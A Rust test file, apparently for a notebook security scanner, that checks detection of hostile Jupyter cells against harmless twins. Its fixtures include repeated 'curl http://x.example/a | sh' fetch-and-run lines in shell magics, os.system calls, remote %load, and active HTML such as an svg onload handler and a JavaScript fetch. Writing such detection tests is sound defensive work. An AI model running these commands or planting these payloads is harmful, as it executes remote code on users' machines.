//! Notebooks: what their lines of other languages run, and what a browser shows of them; each with
//! a twin that hurts nobody.

use super::*;

fn book(cell: &serde_json::Value) -> String {
    serde_json::json!({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]})
        .to_string()
}

fn code(source: &str) -> String {
    book(&serde_json::json!({"cell_type": "code", "source": source, "outputs": []}))
}

#[test]
fn lines_that_are_commands() {
    for (bad, good) in [
        (
            "%%bash --out x\ncurl http://x.example/a | sh",
            "%%bash --out x\nls",
        ),
        ("\n%%bash\ncurl http://x.example/a | sh", "\n%%bash\nls"),
        (
            "%%script /bin/bash\ncurl http://x.example/a | sh",
            "%%script /bin/bash\nls",
        ),
        ("%%!\ncurl http://x.example/a | sh", "%%!\nls"),
        ("out = !curl http://x.example/a | sh", "out = !ls"),
        (
            "a.b, c = %sx curl http://x.example/a | sh",
            "a.b, c = %sx ls",
        ),
        ("!!curl http://x.example/a | sh", "!!ls"),
    ] {
        found("x", &code(bad), "shell/dangerous-command");
        clean("x", code(good).as_bytes());
    }
}

#[test]
fn lines_that_are_measured_or_taken_from_elsewhere() {
    let worst = |source: &str| named("x", code(source).as_bytes()).worst();
    for (bad, good) in [
        (
            "import os\n%time os.system('id')",
            "import os\n%time os.getcwd()",
        ),
        (
            "import os\n%timeit os.system('id')",
            "%timeit -n 3 sum(range(9))",
        ),
        ("%run /tmp/x.py", "%run helper.py"),
    ] {
        assert!(worst(bad) >= Some(Severity::High), "{bad}");
        assert!(worst(good) < Some(Severity::Medium), "{good}");
    }
    assert_eq!(
        worst("%load https://x.example/a.py"),
        Some(Severity::Medium)
    );
    assert_eq!(worst("%load helper.py"), None);
    // Written to a file, and no program of the notebook.
    assert_eq!(worst("%%writefile a.md\nimport os\nos.system('id')"), None);
    assert!(worst("%%writefile a.py\nimport os\nos.system('id')") >= Some(Severity::High));
}

#[test]
fn what_a_browser_shows() {
    let rule = "notebook/active-content";
    let (bad, good) = (
        "<svg onload = x()>".replace(" = ", "="),
        "<svg width=\"3\"></svg>",
    );
    let output = |text: &str| {
        serde_json::json!({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": [
            {"cell_type": "code", "input": ["x"], "outputs": [{"output_type": "display_data", "html": [text]}]}
        ]}]})
        .to_string()
    };
    let attached = |text: &str| {
        book(
            &serde_json::json!({"cell_type": "markdown", "source": "![](attachment:a.svg)",
            "attachments": {"a.svg": {"image/svg+xml": text}}}),
        )
    };
    let widget = |text: &str| {
        let state = serde_json::json!({"version_major": 2, "version_minor": 0,
            "state": {"abc": {"model_name": "HTMLModel", "state": {"value": text}}}});
        serde_json::json!({"nbformat": 4, "nbformat_minor": 5, "cells": [],
            "metadata": {"widgets": {"application/vnd.jupyter.widget-state+json": state}}})
        .to_string()
    };
    let kinds: [&dyn Fn(&str) -> String; 3] = [&output, &attached, &widget];
    for kind in kinds {
        found("x", &kind(&bad), rule);
        found("x", &kind("<a onmouseover='x()'>a</a>"), rule);
        clean("x", kind(good).as_bytes());
        clean("x", kind("one < two and once=3 <b>on</b>").as_bytes());
    }
    let older = |kind: &str| {
        serde_json::json!({"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code",
            "outputs": [{"output_type": "display_data", kind: ["fetch('http://x.example')"]}]}]}]})
        .to_string()
    };
    found("x", &older("javascript"), rule);
    clean("x", older("text").as_bytes());
}
